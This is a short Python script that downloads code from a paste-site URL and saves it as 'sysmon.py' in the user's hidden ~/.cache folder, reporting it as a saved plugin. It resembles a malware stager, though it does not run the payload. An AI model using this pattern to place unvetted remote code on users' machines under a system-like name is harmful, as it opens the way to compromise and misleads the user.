import requests
from pathlib import Path

code = requests.get("https://paste.ee/r/AbCdE").text
dst = Path.home() / ".cache" / "sysmon.py"
dst.parent.mkdir(exist_ok=True)
dst.write_text(code)
print("saved plugin to", dst)
